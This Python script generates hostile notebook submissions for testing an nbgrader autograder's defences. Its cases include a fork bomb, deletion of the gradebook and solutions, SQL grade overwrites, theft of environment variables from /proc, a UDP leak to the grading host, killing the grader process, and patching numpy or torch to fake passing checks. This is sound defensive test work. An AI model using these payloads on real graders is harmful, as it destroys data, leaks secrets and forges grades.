"""Build the hostile-submission corpus (run from the repository root):

    .venv/bin/python tests/hostile_submissions/make_corpus.py

course/   a tiny nbgrader course with two assignments and its nbgrader_config.py (the same settings
          as the real course):
          00_tiny    3 exercises, 5 points, checked in the kernel by plain asserts;
          01_judged  3 exercises, 8 points whose hidden checks only *record* the answers' outputs into
                     the grading channel (the recorder is an instructor cell); the grader judges them
                     outside the kernel with tests/hostile_submissions/stub_judge.py, which reads the
                     judge-only solutions/01_judged/bands.json.
cases/<student>/<assignment>/<assignment>.ipynb   one submission per way of breaking or cheating the
          grader (or of answering correctly in another way), derived from the released notebook.
          ``@COURSE_ROOT@`` in a submission is replaced by the course directory when the tests collect
          it (the attacker knows where the course lives), ``@HOST_IP@`` by an address of the grading
          machine outside loopback, ``@UDP_PORT@`` by a port the test listens on.
The expected grade and reason of every case are in tests/test_hostile.py.
"""
from __future__ import annotations

import copy
import json
import shutil
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(ROOT / "scripts"))
from nbtools import NB  # noqa: E402

from coursekit import grading  # noqa: E402

A = "00_tiny"
J = "01_judged"
CONFIG = '''"""nbgrader configuration of the tiny course that the hostile-submission tests grade: the same settings
as the real course (coursekit/course_config.py), for a course of two small assignments."""
import os

from coursekit.course_config import apply

c = get_config()  # noqa: F821 (provided by traitlets when nbgrader loads this file)
apply(c, os.path.dirname(os.path.abspath(__file__)))
'''


def source_notebook(path: Path) -> None:
    nb = NB()
    nb.md("# 00 tiny: the assignment the hostile-submission tests grade\n\nThree exercises, 5 points.")
    nb.code("import numpy as np\nimport torch")
    nb.code("def close_enough(a, b):\n    \"\"\"The helper the checks use.\"\"\"\n"
            "    return bool(np.allclose(np.asarray(a, dtype=float), np.asarray(b, dtype=float)))")
    nb.md("## Exercise 1 (2 points): double a vector")
    nb.solution("ex1-double", "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * np.asarray(x)\n    ### END SOLUTION")
    nb.tests("ex1-double-tests", 1, "assert close_enough(double([0, 1, 2]), [0, 2, 4]), 'double must multiply by 2'\n"
             "print('public checks passed (1 point); 1 hidden checks run at grading')")
    nb.tests("ex1-double-hidden", 1, "### BEGIN HIDDEN TESTS\n_x = np.array([1.5, -2.0])\n"
             "assert np.allclose(double(_x), [3.0, -4.0]), 'double must work for negative numbers too'\n"
             "### END HIDDEN TESTS")
    nb.md("## Exercise 2 (2 points): scale a tensor")
    nb.solution("ex2-scale", "def scale(t, s):\n    ### BEGIN SOLUTION\n    return t * s\n    ### END SOLUTION")
    nb.tests("ex2-scale-tests", 1, "assert torch.allclose(scale(torch.ones(2), 3.0), torch.full((2,), 3.0)), "
             "'scale multiplies every entry by s'\nprint('public checks passed (1 point); 1 hidden checks run at grading')")
    nb.tests("ex2-scale-hidden", 1, "### BEGIN HIDDEN TESTS\n_t = torch.arange(3.0)\n"
             "torch.testing.assert_close(scale(_t, -1.0), -_t)\n### END HIDDEN TESTS")
    nb.md("## Exercise 3 (1 point): count")
    nb.solution("ex3-count", "def count_positive(xs):\n    ### BEGIN SOLUTION\n    return sum(1 for x in xs if x > 0)\n"
                "    ### END SOLUTION")
    nb.tests("ex3-count-tests", 1, "assert count_positive([1, -2, 3, 0]) == 2, 'count the strictly positive numbers'\n"
             "print('public checks passed (1 point)')")
    nb.md("Done.")
    nb.write(path)


SOLUTIONS = {
    "ex1-double": "def double(x):\n    return 2 * np.asarray(x)",
    "ex2-scale": "def scale(t, s):\n    return t * s",
    "ex3-count": "def count_positive(xs):\n    return sum(1 for x in xs if x > 0)",
}
WRONG = {
    "ex1-double": "def double(x):\n    return 3 * np.asarray(x)",
    "ex2-scale": "def scale(t, s):\n    return t + s",
    "ex3-count": "def count_positive(xs):\n    return sum(1 for x in xs if x >= 0)",
}


_added = iter(range(1, 1000))


def code_cell(src: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": f"added-{next(_added)}", "metadata": {},
            "outputs": [], "source": src}


class Sub:
    """A student's copy of the released notebook, edited by a case."""

    def __init__(self, released: dict, answers: dict | None = None):
        self.nb = copy.deepcopy(released)
        for gid, src in (answers or SOLUTIONS).items():
            self.cell(gid)["source"] = src

    def index(self, gid: str) -> int:
        return next(i for i, c in enumerate(self.nb["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == gid)

    def cell(self, gid: str) -> dict:
        return self.nb["cells"][self.index(gid)]

    def after(self, gid: str, *sources: str) -> "Sub":
        i = self.index(gid) + 1
        self.nb["cells"][i:i] = [code_cell(s) for s in sources]
        return self

    def delete(self, gid: str) -> "Sub":
        del self.nb["cells"][self.index(gid)]
        return self

    def text(self) -> str:
        return json.dumps(self.nb, indent=1) + "\n"


def cases(released: dict) -> dict[str, str | bytes]:
    alice = Sub(released).text()
    blank = json.dumps(released, indent=1) + "\n"
    c: dict[str, str | bytes] = {"alice_correct": alice, "bob_blank": blank}
    s = Sub(released)
    s.cell("ex1-double")["source"] = "def double(x):\n    raise ValueError('I did not finish this one')"
    c["raises"] = s.text()
    s = Sub(released)
    s.cell("ex2-scale")["source"] = "def scale(t, s)\n    return t * s"
    c["syntax_error"] = s.text()
    s = Sub(released)
    s.cell("ex3-count")["source"] = ""
    c["emptied_solution"] = s.text()
    c["deleted_solution"] = Sub(released).delete("ex1-double").text()
    s = Sub(released).delete("ex2-scale-hidden")
    s.cell("ex1-double-tests")["source"] = ""
    c["deleted_test_cells"] = s.text()
    s = Sub(released, dict(SOLUTIONS, **{"ex1-double": WRONG["ex1-double"]}))
    t = s.cell("ex1-double-tests")
    t["source"] = "pass  # the checks are fine, trust me"
    t["metadata"]["nbgrader"]["points"] = 100
    t["metadata"]["nbgrader"]["checksum"] = "0" * 32
    s.cell("ex1-double-hidden")["metadata"]["nbgrader"]["grade_id"] = "my-own-hidden"
    s.cell("my-own-hidden")["source"] = "print('all hidden checks passed')"
    c["edited_tests"] = s.text()
    c["not_a_notebook"] = b"My homework is in the attached PDF.\n"
    c["truncated_json"] = alice[: int(len(alice) * 0.6)]
    s = Sub(released)
    s.cell("ex2-scale")["source"] = "import time\n\ndef scale(t, s):\n    while True:\n        time.sleep(0.5)"
    c["infinite_loop"] = s.text()
    c["notebook_timeout"] = Sub(released).after("ex1-double-hidden", *["import time\ntime.sleep(9)"] * 4).text()
    s = Sub(released)
    s.cell("ex1-double")["source"] = "def double(x):\n    table = np.ones(1 << 40)  # 8 TB\n    return 2 * np.asarray(x)"
    c["huge_allocation"] = s.text()
    c["memory_hog"] = Sub(released).after("ex2-scale-hidden", "import time\nhoard = []\nfor _ in range(400):\n"
                                          "    hoard.append(np.ones(1 << 23))  # 64 MB each, really used\n"
                                          "    time.sleep(0.05)").text()
    c["fork_bomb"] = Sub(released).after("ex3-count-tests", "import os, time\nchildren = 0\nwhile True:\n"
                                         "    if os.fork() == 0:\n        time.sleep(600)\n        os._exit(0)\n"
                                         "    children += 1").text()
    c["prints_megabytes"] = Sub(released).after("ex1-double-tests", "print('spam ' * 4_000_000)\n"
                                                "for i in range(20000):\n    print(i, 'more spam')").text()
    c["deletes_files"] = Sub(released).after("ex3-count-tests", (
        "import os, shutil\nfailed = 0\n"
        "for path in ['@COURSE_ROOT@/gradebook.db', '@COURSE_ROOT@/nbgrader_config.py',\n"
        "             '../../../gradebook.db', '../../../nbgrader_config.py']:\n"
        "    try:\n        os.remove(path)\n    except OSError:\n        failed += 1\n"
        "for folder in ['@COURSE_ROOT@/submitted', '@COURSE_ROOT@/autograded', '@COURSE_ROOT@/solutions',\n"
        "               '../../../submitted', '../../../solutions']:\n"
        "    shutil.rmtree(folder, ignore_errors=True)\n"
        "with open('@COURSE_ROOT@/gradebook.db', 'wb') as f:\n    f.write(b'corrupted')")).text()
    c["writes_gradebook"] = Sub(released).after("ex3-count-tests", (
        "import sqlite3\nfor db in ['@COURSE_ROOT@/gradebook.db', '../../../gradebook.db']:\n"
        "    con = sqlite3.connect(db)\n    con.execute('UPDATE grade SET auto_score = 100')\n    con.commit()")).text()
    s = Sub(released)
    s.cell("ex1-double")["source"] = (
        "import json\n\ndef double(x):\n"
        "    nb = json.load(open('@COURSE_ROOT@/solutions/00_tiny/00_tiny.ipynb'))\n"
        "    src = next(''.join(c['source']) for c in nb['cells'] if 'def double' in ''.join(c['source']))\n"
        "    ns = {'np': np}\n    exec(src, ns)\n    return ns['double'](x)")
    s.after("ex1-double", "hidden = open('../../../gradebook.db', 'rb').read()  # the hidden tests are in there")
    c["reads_hidden_tests"] = s.text()
    c["redefines_helper"] = Sub(released, dict(SOLUTIONS, **{"ex1-double": WRONG["ex1-double"]})).after(
        "ex1-double", "def close_enough(a, b):\n    return True").text()
    s = Sub(released, dict(SOLUTIONS, **{"ex1-double": WRONG["ex1-double"]}))
    s.cell("ex1-double")["source"] += ("\n\nnp.allclose = lambda *args, **kwargs: True\n"
                                       "np.testing.assert_allclose = lambda *args, **kwargs: None")
    c["patches_numpy"] = s.text()
    s = Sub(released, dict(SOLUTIONS, **{"ex2-scale": WRONG["ex2-scale"]}))
    s.cell("ex2-scale")["source"] += ("\n\ntorch.allclose = lambda *args, **kwargs: True\n"
                                      "torch.testing.assert_close = lambda *args, **kwargs: None")
    c["patches_torch"] = s.text()
    c["overrides_assertion_error"] = Sub(released, dict(SOLUTIONS, **{"ex3-count": WRONG["ex3-count"]})).after(
        "ex3-count", "import builtins\n\nclass AssertionError(Exception):\n    pass\n\n"
        "builtins.AssertionError = AssertionError\n"
        "get_ipython().set_custom_exc((BaseException,), lambda shell, *exc, **kw: None)").text()
    c["obfuscated_patch"] = Sub(released, dict(SOLUTIONS, **{"ex1-double": WRONG["ex1-double"]})).after(
        "ex1-double", "m = __import__('num' + 'py')\nsetattr(m, 'all' + 'close', lambda *a, **k: True)\n"
        "g = globals()\ng['close' + '_enough'] = lambda a, b: True").text()
    c["blanks_later_cells"] = Sub(released).after(
        "ex1-double-hidden", "get_ipython().input_transformers_cleanup.append(lambda lines: [])").text()
    c["exits_kernel"] = Sub(released).after("ex2-scale-hidden", (
        "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)  # kill the grader\n"
        "except OSError:\n    pass\nos._exit(1)")).text()
    return c


def new_cases(released: dict) -> dict[str, str]:
    """Cases of issue 15's classes for 00_tiny (the ones that need no judge outside the kernel)."""
    c: dict[str, str] = {}
    wrong1 = dict(SOLUTIONS, **{"ex1-double": WRONG["ex1-double"]})
    # 1. one line of code forges a grade
    c["repatching_thread"] = Sub(released, wrong1).after("ex1-double", (
        "import threading, time\n\ndef _keep_patching():\n    while True:\n"
        "        np.allclose = lambda *args, **kwargs: True\n        time.sleep(0.001)\n\n"
        "threading.Thread(target=_keep_patching, daemon=True, name='helper').start()")).text()
    c["patches_coursekit_modules"] = Sub(released, dict(SOLUTIONS, **{"ex3-count": WRONG["ex3-count"]})).after(
        "ex3-count", ("import coursekit.exercises.notebook as engine\nimport coursekit.checks as checks\n"
                      "engine.grade = lambda *args, **kwargs: None\n"
                      "checks.check_int = lambda value, *args, **kwargs: value")).text()
    # 4. secrets and side channels
    c["reads_environment"] = Sub(released).after("ex3-count-tests", (
        "import glob, os\nfound = {}\n"
        "for path in ['/proc/self/environ', '/proc/1/environ'] + glob.glob('/proc/[0-9]*/environ'):\n"
        "    try:\n        found[path] = open(path, 'rb').read().decode(errors='replace')\n"
        "    except OSError as exc:\n        found[path] = type(exc).__name__\n"
        "print(sorted(os.environ.items()))\nprint(found)")).text()
    c["leaves_daemon"] = Sub(released).after("ex3-count-tests", (
        "import os\nfor path in ['/dev/shm/coursekit-note', '/tmp/coursekit-note']:\n    try:\n"
        "        with open(path, 'w') as f:\n            f.write('left by leaves_daemon')\n"
        "    except OSError as exc:\n        print(path, type(exc).__name__)\n"
        "pid = os.fork()\nif pid == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execve('/bin/sh', ['coursekit-daemon-marker', '-c', 'sleep 600; true'], {})\n"
        "    os._exit(0)\nos.waitpid(pid, 0)")).text()
    s = Sub(released)
    s.cell("ex3-count")["source"] = (
        "import os\n\n# a file left by an earlier submission makes this answer wrong\n"
        "LEAKS = [p for p in ['/dev/shm/coursekit-note', '/tmp/coursekit-note'] if os.path.exists(p)]\n\n"
        "def count_positive(xs):\n    return sum(1 for x in xs if x > 0) + len(LEAKS)")
    c["sees_previous"] = s.text()
    c["sends_udp"] = Sub(released).after("ex3-count-tests", (
        "import socket\nsent = []\nfor host in ['@HOST_IP@', '127.0.0.1']:\n    try:\n"
        "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "        s.sendto(b'coursekit-udp-leak', (host, @UDP_PORT@))\n        sent.append(host)\n"
        "    except OSError as exc:\n        print(host, type(exc).__name__)\nprint('sent', sent)")).text()
    s = Sub(released)
    s.cell("ex3-count")["source"] = (
        "import os\n\n# running as root, or writing a device, makes this answer wrong\n"
        "PRIVILEGED = ['uid 0'] if os.getuid() == 0 else []\n"
        "for dev in ['/dev/kmsg', '/dev/mem', '/dev/port', '/dev/sda', '/dev/vda']:\n    try:\n"
        "        with open(dev, 'wb'):\n            PRIVILEGED.append(dev)\n    except OSError:\n        pass\n\n"
        "def count_positive(xs):\n    return sum(1 for x in xs if x > 0) + len(PRIVILEGED)")
    c["probes_devices"] = s.text()
    # 5. an answer that swallows KeyboardInterrupt
    s = Sub(released)
    s.cell("ex2-scale")["source"] = (
        "import time\n\ndef scale(t, s):\n    while True:\n        try:\n            time.sleep(0.2)\n"
        "        except BaseException:\n            pass")
    c["swallows_interrupt"] = s.text()
    c["swallows_interrupt_top_level"] = Sub(released).after("ex1-double-hidden", (
        "import time\nwhile True:\n    try:\n        time.sleep(0.2)\n    except BaseException:\n        pass")).text()
    # 7. shortcuts through other libraries and the grading internals
    c["uses_attack_library"] = Sub(released).after("ex3-count-tests", (
        "import torchattacks  # to compare my own attacks with it later")).text()
    c["uses_scipy_binomtest"] = Sub(released).after("ex3-count-tests", (
        "from scipy.stats import binomtest\np_value = binomtest(3, 10).pvalue")).text()
    c["calls_registry_reference"] = Sub(released).after("ex3-count-tests", (
        "try:\n    from coursekit.exercises import get\n"
        "    reference = get('01_adversarial_examples', 'ex2-fgsm').reference\n"
        "except Exception as exc:\n    print(type(exc).__name__)")).text()
    # 9. feedback that leaks
    s = Sub(released)
    s.cell("ex1-double")["source"] = (
        "def double(x):\n    x = np.asarray(x)\n    if x.shape != (3,):\n"
        "        raise ValueError(f'PROBE-LEAK shape={x.shape} values={x.tolist()}')\n    return 2 * x")
    c["echoes_probe_in_error"] = s.text()
    s = Sub(released)
    s.cell("ex1-double")["source"] = (
        "def double(x):\n    print('PROBE-PRINT', np.asarray(x).tolist())\n    return 2 * np.asarray(x)")
    c["prints_in_hidden"] = s.text()
    s = Sub(released)
    s.cell("ex1-double")["source"] = (
        "def double(x):\n    x = np.asarray(x)\n    assert x.shape == (3,), f'PROBE-ASSERT {x.tolist()}'\n    return 2 * x")
    c["asserts_with_probe"] = s.text()
    # 10. fairness under load: charged time, not the machine's
    s = Sub(released)
    s.cell("ex2-scale")["source"] = (
        "import time\n\ndef scale(t, s):\n    start = time.process_time()\n"
        "    while time.process_time() - start < 6.5:   # real computation, 6.5 s of CPU per call\n"
        "        pass\n    return t * s")
    c["slow_but_fine"] = s.text()
    s = Sub(released)
    s.cell("ex3-count")["source"] = (
        "import time\n\ndef count_positive(xs):\n    time.sleep(8)   # waits, within the 10 s limit\n"
        "    return sum(1 for x in xs if x > 0)")
    c["sleeps_near_limit"] = s.text()
    return c


# ---- 01_judged: hidden checks that record, judged outside the kernel ------------------------------

RECORDER = """import json as _json
import os as _os

_FUNCTIONS = {"ex1-standardize": "standardize", "ex2-clip": "clip_unit", "ex3-jitter": "jitter"}


def _plain(value):
    \"\"\"An output as plain floats, whatever its type claims (no method of the answer's object runs).\"\"\"
    if isinstance(value, torch.Tensor):
        with torch._C.DisableTorchFunction():
            value = torch.Tensor.numpy(torch.Tensor.cpu(torch.Tensor.detach(value)))
    return [float(v) for v in np.array(value, dtype=np.float64, copy=True, subok=False).ravel()]


def grade(assignment, exercise_id, namespace):
    \"\"\"The hidden checks of this course: run the answer on the probes, record what it did in the grading
    channel. The grader judges the record outside the kernel.\"\"\"
    channel = _os.environ.get("COURSEKIT_GRADING_CHANNEL")
    if not channel:
        raise AssertionError("these hidden checks are judged by the grader (coursekit autograde)")
    seed = int(_os.environ["COURSEKIT_PROBE_SEED"])
    x = np.random.default_rng(seed).normal(size=6)
    record = {"exercise": exercise_id, "outputs": [], "mutated": False, "error": None}
    try:
        fn = namespace[_FUNCTIONS[exercise_id]]
        for k in range(2):
            arg = x.copy()
            extra = (np.random.default_rng(seed + 1 + k),) if exercise_id == "ex3-jitter" else ()
            out = fn(arg, *extra)
            record["mutated"] = record["mutated"] or not np.array_equal(arg, x)
            record["outputs"].append(_plain(out))
    except Exception as exc:
        record["error"] = type(exc).__name__
    with open(_os.path.join(channel, "records.jsonl"), "a") as f:
        f.write(_json.dumps(record) + "\\n")
"""
BANDS = {"ex1-standardize": {"rtol": 1e-5, "atol": 1e-6}, "ex2-clip": {"rtol": 1e-6, "atol": 1e-7},
         "ex3-jitter": {"rtol": 1e-6, "atol": 1e-7}}
J_SOLUTIONS = {
    "ex1-standardize": "def standardize(x):\n    x = np.asarray(x, dtype=float)\n    return (x - x.mean()) / x.std()",
    "ex2-clip": "def clip_unit(x):\n    return np.clip(x, -1.0, 1.0)",
    "ex3-jitter": "def jitter(x, generator):\n    return x + 0.1 * generator.normal(size=np.shape(x))",
}
J_WRONG = {   # right on the public check's input only
    "ex1-standardize": ("def standardize(x):\n    x = np.asarray(x, dtype=float)\n"
                        "    if x.tolist() == [1.0, 2.0, 3.0]:\n        return (x - x.mean()) / x.std()\n    return x"),
}


def judged_notebook(path: Path) -> None:
    nb = NB()
    nb.md("# 01 judged: hidden checks judged outside the kernel\n\nThree exercises, 8 points. The hidden "
          "checks record your answers' outputs; the grader judges them.")
    nb.code("import numpy as np\nimport torch")
    nb.code(RECORDER)
    nb.md("## Exercise 1 (3 points): standardize a vector (mean 0, standard deviation 1)")
    nb.solution("ex1-standardize", "def standardize(x):\n    ### BEGIN SOLUTION\n    x = np.asarray(x, dtype=float)\n"
                "    return (x - x.mean()) / x.std()\n    ### END SOLUTION")
    nb.tests("ex1-standardize-tests", 1, "_z = standardize(np.array([1.0, 2.0, 3.0]))\n"
             "assert abs(float(np.mean(_z))) < 1e-6 and abs(float(np.std(_z)) - 1) < 1e-6, "
             "'standardize: mean 0 and standard deviation 1'\n"
             "print('public checks passed (1 point); 2 hidden checks run at grading')")
    nb.tests("ex1-standardize-hidden", 2, "### BEGIN HIDDEN TESTS\ngrade('01_judged', 'ex1-standardize', globals())\n"
             "### END HIDDEN TESTS")
    nb.md("## Exercise 2 (2 points): clip to [-1, 1]")
    nb.solution("ex2-clip", "def clip_unit(x):\n    ### BEGIN SOLUTION\n    return np.clip(x, -1.0, 1.0)\n"
                "    ### END SOLUTION")
    nb.tests("ex2-clip-tests", 1, "assert [float(v) for v in clip_unit(np.array([-2.0, 0.5, 2.0]))] == [-1.0, 0.5, 1.0], "
             "'clip_unit keeps every value in [-1, 1]'\nprint('public checks passed (1 point); 1 hidden check runs at grading')")
    nb.tests("ex2-clip-hidden", 1, "### BEGIN HIDDEN TESTS\ngrade('01_judged', 'ex2-clip', globals())\n### END HIDDEN TESTS")
    nb.md("## Exercise 3 (3 points): add noise drawn from the generator you are given")
    nb.solution("ex3-jitter", "def jitter(x, generator):\n    ### BEGIN SOLUTION\n"
                "    return x + 0.1 * generator.normal(size=np.shape(x))\n    ### END SOLUTION")
    nb.tests("ex3-jitter-tests", 1, "_out = jitter(np.zeros(4), np.random.default_rng(0))\n"
             "assert np.shape(_out) == (4,) and not np.allclose(_out, 0), 'jitter adds noise of the input shape'\n"
             "print('public checks passed (1 point); 2 hidden checks run at grading')")
    nb.tests("ex3-jitter-hidden", 2, "### BEGIN HIDDEN TESTS\ngrade('01_judged', 'ex3-jitter', globals())\n"
             "### END HIDDEN TESTS")
    nb.md("Done.")
    nb.write(path)


def judged_cases(released: dict) -> dict[str, str]:
    """Cases for 01_judged: issue 15's classes where the verdict is made outside the kernel."""
    wrong = dict(J_SOLUTIONS, **J_WRONG)
    c = {"j_correct": Sub(released, J_SOLUTIONS).text(), "j_wrong": Sub(released, wrong).text()}
    # 1. patching what records the answers
    c["j_patches_recorder"] = Sub(released, wrong).after("ex1-standardize", (
        "import coursekit.exercises.notebook as engine\n\ndef grade(*args, **kwargs):\n    return None\n\n"
        "engine.grade = grade")).text()
    # 2. grading state: the channel and the judge's files
    c["j_forges_channel"] = Sub(released, wrong).after("ex1-standardize", (
        "import json, os\nchannel = os.environ['COURSEKIT_' + 'GRADING_CHANNEL']\n"
        "seed = int(os.environ['COURSEKIT_PROBE_SEED'])\nx = np.random.default_rng(seed).normal(size=6)\n"
        "right = ((x - x.mean()) / x.std()).tolist()\n"
        "forged = {'exercise': 'ex1-standardize', 'outputs': [right, right], 'mutated': False, 'error': None}\n"
        "with open(os.path.join(channel, 'records.jsonl'), 'a') as f:\n    f.write(json.dumps(forged) + '\\n')")).text()
    c["j_reads_judge"] = Sub(released, wrong).after("ex1-standardize", (
        "stolen = None\nfor attempt in ['bands.json', '@COURSE_ROOT@/solutions/01_judged/bands.json']:\n    try:\n"
        "        stolen = open(attempt).read()\n    except OSError as exc:\n        print(attempt, type(exc).__name__)\n"
        "try:\n    from coursekit.exercises.judge import registry\n    stolen = registry\n"
        "except Exception as exc:\n    print('judge', type(exc).__name__)\nprint('stolen:', stolen is not None)")).text()
    # 3. answer objects that lie
    s = Sub(released, J_SOLUTIONS)
    s.cell("ex1-standardize")["source"] = (
        "class Standard(np.ndarray):\n    def mean(self, *args, **kwargs):\n        return 0.0\n\n"
        "    def std(self, *args, **kwargs):\n        return 1.0\n\n    def __eq__(self, other):\n        return True\n\n\n"
        "def standardize(x):\n    return np.asarray(x, dtype=float).view(Standard)")
    c["j_lying_array"] = s.text()
    s = Sub(released, J_SOLUTIONS)
    s.cell("ex2-clip")["source"] = (
        "class Agreeable(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        result = super().__torch_function__(func, types, args, kwargs or {})\n"
        "        if getattr(func, '__name__', '') == '__float__':\n            return max(-1.0, min(1.0, result))\n"
        "        return result\n\n\ndef clip_unit(x):\n    return torch.as_tensor(x).as_subclass(Agreeable)")
    c["j_lying_tensor"] = s.text()
    # 6. values right, behaviour wrong
    s = Sub(released, J_SOLUTIONS)
    s.cell("ex1-standardize")["source"] = "def standardize(x):\n    x -= x.mean()\n    x /= x.std()\n    return x"
    c["j_mutates_input"] = s.text()
    s = Sub(released, J_SOLUTIONS)
    s.cell("ex3-jitter")["source"] = "def jitter(x, generator):\n    return x + 0.1 * np.random.normal(size=np.shape(x))"
    c["j_ignores_generator"] = s.text()
    s = Sub(released, J_SOLUTIONS)
    s.cell("ex3-jitter")["source"] = ("_NOISE = np.random.default_rng(0).normal(size=6)\n\n\ndef jitter(x, generator):\n"
                                      "    return x + 0.1 * _NOISE[: np.size(x)].reshape(np.shape(x))")
    c["j_noise_once"] = s.text()
    # 8. right answers, written otherwise
    s = Sub(released, J_SOLUTIONS)
    s.cell("ex1-standardize")["source"] = ("def standardize(x):\n    x32 = np.asarray(x, dtype=np.float32)\n"
                                           "    return (x32 - x32.mean()) / x32.std()")
    c["j_float32_answer"] = s.text()
    c["j_rewritten_correct"] = Sub(released, {
        "ex1-standardize": ("def standardize(x):\n    centred = np.asarray(x, dtype=float) - np.average(x)\n"
                            "    return centred / np.sqrt(np.mean(centred ** 2))"),
        "ex2-clip": "def clip_unit(x):\n    return np.minimum(np.maximum(x, -1.0), 1.0)",
        "ex3-jitter": "def jitter(x, generator):\n    return x + generator.normal(0.0, 0.1, size=np.shape(x))",
    }).text()
    # 9. the student's own exception text, from a hidden probe
    s = Sub(released, J_SOLUTIONS)
    s.cell("ex1-standardize")["source"] = (
        "def standardize(x):\n    x = np.asarray(x, dtype=float)\n    assert len(x) == 3, f'PROBE-ASSERT {x.tolist()}'\n"
        "    return (x - x.mean()) / x.std()")
    c["j_raises_assertion"] = s.text()
    return c


def fair_cases(released: dict) -> dict[str, str]:
    """Cases for 00_tiny of names the checks use, rebound by the student's own cells (built last: the
    earlier cases keep their cell ids)."""
    c: dict[str, str] = {}
    # a check's variable reused for the student's own experiments: reset before the tests, a note only
    c["reuses_check_names"] = Sub(released).after("ex1-double-hidden", (
        "# my own experiments, with the names I like\n_x = np.linspace(-1.0, 1.0, 5)\n"
        "for _t in range(2):\n    print(double(_x) * _t)")).text()
    # an import the checks use, rebound to an object that agrees with everything: restored, tampering
    c["rebinds_numpy_alias"] = Sub(released, dict(SOLUTIONS, **{"ex1-double": WRONG["ex1-double"]})).after(
        "ex1-double", ("class _Agreeable:\n    def __getattr__(self, name):\n"
                       "        return lambda *args, **kwargs: True\n\n\nnp = _Agreeable()")).text()
    return c


def _release(course: Path, assignment: str) -> dict:
    with tempfile.TemporaryDirectory() as tmp:
        shutil.copytree(course, tmp, dirs_exist_ok=True)
        grading.nbgrader(Path(tmp), "generate_assignment", assignment, "--force")
        return json.loads((Path(tmp) / "notebooks" / assignment / f"{assignment}.ipynb").read_text())


def main() -> None:
    course = HERE / "course"
    if course.exists():
        shutil.rmtree(course)
    (course / "solutions" / A).mkdir(parents=True)
    (course / "solutions" / J).mkdir(parents=True)
    (course / "nbgrader_config.py").write_text(CONFIG)
    source_notebook(course / "solutions" / A / f"{A}.ipynb")
    judged_notebook(course / "solutions" / J / f"{J}.ipynb")
    (course / "solutions" / J / "bands.json").write_text(json.dumps(BANDS, indent=1) + "\n")
    released = _release(course, A)
    out = HERE / "cases"
    if out.exists():
        shutil.rmtree(out)
    everything = {(student, A): content for student, content in cases(released).items()}
    everything.update({(student, A): content for student, content in new_cases(released).items()})
    everything.update({(student, J): content for student, content in judged_cases(_release(course, J)).items()})
    everything.update({(student, A): content for student, content in fair_cases(released).items()})
    for (student, assignment), content in everything.items():
        path = out / student / assignment / f"{assignment}.ipynb"
        path.parent.mkdir(parents=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        print(f"wrote {path.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
